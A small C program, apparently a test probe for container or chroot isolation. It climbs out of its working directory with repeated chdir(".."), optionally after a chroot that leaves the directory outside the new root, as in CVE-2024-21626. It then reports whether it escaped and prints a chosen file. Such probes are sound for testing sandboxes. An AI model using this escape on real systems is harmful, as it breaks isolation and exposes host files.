// climb FILE [FILE2]: goes up from the working directory as far as it leads. Prints `inside` when that is this process's
// root, `escaped` when it is another place; then, from there, the bytes of FILE if it can be opened. Both go to FILE2 if given.
// climb --chroot DIR FILE: first makes DIR the root without leaving the working directory, as CVE-2024-21626 did.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int same(const char *a, const char *b) {
  struct stat x, y;
  return stat(a, &x) == 0 && stat(b, &y) == 0 && x.st_dev == y.st_dev && x.st_ino == y.st_ino;
}

int main(int argc, char **argv) {
  int at = 1;
  if (argc > 3 && strcmp(argv[1], "--chroot") == 0) {
    if (chroot(argv[2]) != 0) return 1;
    at = 3;
  }
  if (argc <= at) return 2;
  if (argc > at + 1 && freopen(argv[at + 1], "w", stdout) == NULL) return 3;
  char cwd[4096];
  if (getcwd(cwd, sizeof cwd) == NULL) strcpy(cwd, "?");
  for (int i = 0; i < 200 && !same(".", ".."); i++) {
    if (chdir("..") != 0) break;
  }
  printf("%s %s\n", same(".", "/") ? "inside" : "escaped", cwd);
  const char *file = argv[at];
  while (*file == '/') file++;
  char bytes[4096];
  int fd = open(file, O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, bytes, sizeof bytes);
  if (n > 0) fwrite(bytes, 1, (size_t)n, stdout);
  return 0;
}
